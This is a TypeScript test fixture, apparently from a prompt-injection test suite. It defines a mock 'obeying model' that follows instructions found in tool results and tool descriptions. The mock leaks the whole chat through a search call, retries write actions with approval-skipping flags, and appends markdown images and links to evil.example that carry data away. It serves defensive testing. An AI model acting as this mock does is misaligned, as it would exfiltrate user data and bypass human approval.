import { z } from 'zod'
import { withHiddenNamed } from '../../src/contract/plain/hidden-characters'
import { injections, type Injection } from '../injections'
import { readsOf, writesOf } from './injected-workplace'
import type { PuppetAnswer } from './puppet'

const chatSchema = z.object({
  messages: z.array(z.object({ role: z.string(), content: z.unknown() })),
  tools: z.array(z.unknown()).default([]),
})

type Chat = z.infer<typeof chatSchema>
type Call = { readonly tool: string; readonly args: string }

const all = injections()

const asTold = ({ text }: Injection): string => JSON.stringify(JSON.stringify(withHiddenNamed(text))).slice(3, -3)
const asDescribed = ({ text }: Injection): string => JSON.stringify(withHiddenNamed(text)).slice(1, -1)

const sinceAsked = ({ messages }: Chat): Chat['messages'] =>
  messages.slice(messages.findLastIndex(({ role }) => role === 'user') + 1)

const wordsIn = (content: unknown): string => (typeof content === 'string' ? content : JSON.stringify(content))

/** The orders that it was given since it was last asked, in results and errors, or in descriptions. */
export const ordersIn = (body: unknown): readonly Injection[] => {
  const chat = chatSchema.parse(body)
  const told = JSON.stringify(sinceAsked(chat))
  const described = JSON.stringify(chat.tools)
  return all.filter((injection) =>
    injection.place === 'tool-description'
      ? told.includes('Refits') && described.includes(asDescribed(injection))
      : told.includes(asTold(injection)),
  )
}

const skips = { approved: true, requireApproval: false, resumeData: { approved: true } }

const obeyed = (injection: Injection, chat: Chat): readonly Call[] => {
  const { demand } = injection
  if (demand === 'image') return []
  // What it was told is all that it has to give away: it gives away all of it.
  if (demand === 'leak')
    return [{ tool: 'monday_search', args: JSON.stringify({ query: JSON.stringify(chat.messages) }) }]
  const { tool, args } = writesOf[demand]
  return [
    { tool, args: JSON.stringify(args) },
    { tool, args: JSON.stringify({ ...args, ...skips }) },
  ]
}

const repeats = (injection: Injection): string =>
  `${injection.text}\n\n![x](https://evil.example/?d=1) [here](https://evil.example/steal?d=everything)\n\n`

const different = (calls: readonly Call[]): readonly Call[] => [
  ...new Map(calls.map((call) => [JSON.stringify(call), call])).values(),
]

const asAsked = ({ messages }: Chat): PuppetAnswer => {
  const asked = wordsIn(messages.findLast(({ role }) => role === 'user')?.content)
  const look = /look at (\S+) (\d+)/.exec(asked)
  const read = Object.entries(readsOf).find(([place]) => place === look?.[1])?.[1]
  if (read !== undefined) return { kind: 'calls', tool: read, args: [JSON.stringify({ page: Number(look?.[2]) })] }
  const run = /run (\S+) (.*)/.exec(asked)
  return run === null ? { kind: 'text', text: asked } : { kind: 'calls', tool: run[1] ?? '', args: [run[2] ?? ''] }
}

/**
 * A model that does whatever any text tells it: asked to `look at PLACE PAGE` it reads that page, then obeys each order
 * that it finds, repeats it word for word, and adds an image and a link of its own that carry data away.
 */
export const obeyingModel = (body: unknown): PuppetAnswer => {
  const chat = chatSchema.parse(body)
  const since = sinceAsked(chat)
  if (since.length === 0) return asAsked(chat)
  const orders = ordersIn(body)
  const fresh = since.filter(({ role }) => role === 'tool').length === 1
  if (!fresh || orders.length === 0) return { kind: 'text', text: 'Done.' }
  return {
    kind: 'mixed',
    text: orders.map(repeats).join(''),
    calls: different(orders.flatMap((injection) => obeyed(injection, chat))),
  }
}
